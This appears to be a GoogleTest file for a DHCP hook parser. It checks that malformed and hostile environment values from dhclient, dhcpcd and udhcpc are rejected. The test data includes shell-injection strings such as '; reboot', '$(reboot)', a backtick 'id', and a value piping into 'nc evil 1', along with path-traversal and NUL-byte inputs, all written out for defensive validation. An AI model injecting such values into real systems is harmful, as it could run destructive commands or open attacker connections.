// SPDX-License-Identifier: GPL-2.0-or-later
// Hostile and broken input: values come from a DHCP server through a shell script, so anything may arrive.
// Every case must be an InputError (never a crash, never a value that a later shell or nft would run).
#include <gtest/gtest.h>

#include "hook_test_support.hpp"
#include "sources/hook_env.hpp"
#include "sources/hook_fields.hpp"

namespace uplinkd {
namespace {

using testing::dhclient_bound;
using testing::dhcpcd_bound;
using testing::expect_input_error;
using testing::udhcpc_bound;
using testing::with;
using testing::without;

struct Garbage {
  const char* variable;
  std::string value;
  const char* message;
};

const Garbage kGarbage[] = {
    {"interface", "eth0; reboot", "interface \"eth0; reboot\" is not an interface name"},
    {"interface", "$(reboot)", "is not an interface name"},
    {"interface", "`id`", "is not an interface name"},
    {"interface", "eth0\nreboot", "interface \"eth0\\x0areboot\" is not an interface name"},
    {"interface", "eth0 eth1", "is not an interface name"},
    {"interface", "a\"b", "interface \"a\\\"b\" is not an interface name"},
    {"interface", "../../etc", "is not an interface name"},
    {"interface", "..", "is not an interface name"},
    {"interface", "enp0s31f6abcdefg", "is not an interface name"},  // 16 bytes: IFNAMSIZ counts the NUL
    {"interface", "eth0:1", "is not an interface name"},
    {"interface", "eth\xc3\xa9", "interface \"eth\\xc3\\xa9\" is not an interface name"},
    {"new_ip_address", "100.64.1.10; reboot",
     "new_ip_address \"100.64.1.10; reboot\" is not an IPv4 address"},
    {"new_ip_address", "$(reboot)", "is not an IPv4 address"},
    {"new_ip_address", "100.64.1.10/24", "is not an IPv4 address"},
    {"new_ip_address", "2001:db8::1", "is not an IPv4 address"},
    {"new_ip_address", "0.0.0.0", "new_ip_address is 0.0.0.0, which is no lease"},
    {"new_ip_address", " 100.64.1.10", "is not an IPv4 address"},
    {"new_ip_address", "100.64.1.256", "is not an IPv4 address"},
    {"new_ip_address", "0x64.1.1.10", "is not an IPv4 address"},
    {"new_ip_address", std::string("100.64.1.10\0x", 13),
     "new_ip_address \"100.64.1.10\\x00x\" holds a NUL byte"},
    {"new_subnet_mask", "255.255.255.0 && reboot", "is not a dotted netmask"},
    {"new_subnet_mask", "24", "new_subnet_mask \"24\" is not a dotted netmask"},
    {"new_subnet_mask", "0.255.255.255", "is not a netmask: its one bits are not contiguous"},
    {"new_routers", "100.64.1.1;reboot", "new_routers \"100.64.1.1;reboot\" is not an IPv4 address"},
    {"new_routers", "100.64.1.1 | nc evil 1", "new_routers \"|\" is not an IPv4 address"},
    {"new_routers", std::string(5000, '1'), "new_routers is too long (5000 bytes, at most 2048)"},
    {"new_ip_address", std::string(1 << 20, 'a'), "new_ip_address is too long (1048576 bytes"},
    {"reason", "BOUND; reboot", "reason \"BOUND; reboot\" is not a reason dhclient gives"},
    {"reason", "bound", "reason \"bound\" is not a reason dhclient gives"},
};

class DhclientGarbage : public ::testing::TestWithParam<Garbage> {};

TEST_P(DhclientGarbage, IsRejectedByName) {
  auto env = with(dhclient_bound(), GetParam().variable, GetParam().value);
  expect_input_error([&] { parse_dhclient(env); },
                     std::string("hook environment: ") + GetParam().variable + " ");
  expect_input_error([&] { parse_dhclient(env); }, GetParam().message);
}

INSTANTIATE_TEST_SUITE_P(Values, DhclientGarbage, ::testing::ValuesIn(kGarbage));

TEST(HookGarbage, MissingInterfaceForEveryClient) {
  expect_input_error([] { parse_dhclient(without(dhclient_bound(), "interface")); },
                     "hook environment: interface is missing");
  expect_input_error([] { parse_dhcpcd(without(dhcpcd_bound(), "interface")); },
                     "hook environment: interface is missing");
  expect_input_error([] { parse_udhcpc({"deconfig"}, {}); }, "hook environment: interface is missing");
  expect_input_error([] { parse_dhclient(with(dhclient_bound(), "interface", "")); },
                     "hook environment: interface is missing");
}

TEST(HookGarbage, MissingReason) {
  expect_input_error([] { parse_dhclient(without(dhclient_bound(), "reason")); },
                     "hook environment: reason is missing");
  expect_input_error([] { parse_dhcpcd(without(dhcpcd_bound(), "reason")); },
                     "hook environment: reason is missing");
}

TEST(HookGarbage, EmptyEnvironment) {
  expect_input_error([] { parse_hook(std::nullopt, {}, {}); }, "hook environment: reason is missing");
}

TEST(HookGarbage, HostileDhcpcdProtocol) {
  expect_input_error([] { parse_dhcpcd(with(dhcpcd_bound(), "protocol", "dhcp$(id)")); },
                     "hook environment: protocol \"dhcp$(id)\" is not a dhcpcd protocol name");
}

TEST(HookGarbage, HugeUdhcpcValues) {
  expect_input_error([] { parse_udhcpc({"bound"}, with(udhcpc_bound(), "mask", "4294967296")); },
                     "mask \"4294967296\" is not a prefix length (0-32)");
  expect_input_error([] { parse_udhcpc({std::string(100000, 'b')}, udhcpc_bound()); }, "bytes)");
  std::string many_routers;
  for (int i = 0; i < 300; ++i) many_routers += "192.0.2.1 ";
  expect_input_error([&] { parse_udhcpc({"bound"}, with(udhcpc_bound(), "router", many_routers)); },
                     "router is too long");
}

TEST(HookGarbage, MessagesCutLongValues) {
  std::string value(100, 'x');
  EXPECT_EQ(hook::quoted(value), "\"" + std::string(64, 'x') + "\"... (100 bytes)");
}

TEST(InterfaceName, AcceptsRealNames) {
  for (const char* name : {"eth0", "enp3s0f1", "wlp2s0", "wwan0", "ppp0", "eth0.100", "br-lan", "veth_a1",
                           "lte", "enx00e04c680001"})
    EXPECT_TRUE(hook::is_plain_interface_name(name)) << name;
}

}  // namespace
}  // namespace uplinkd
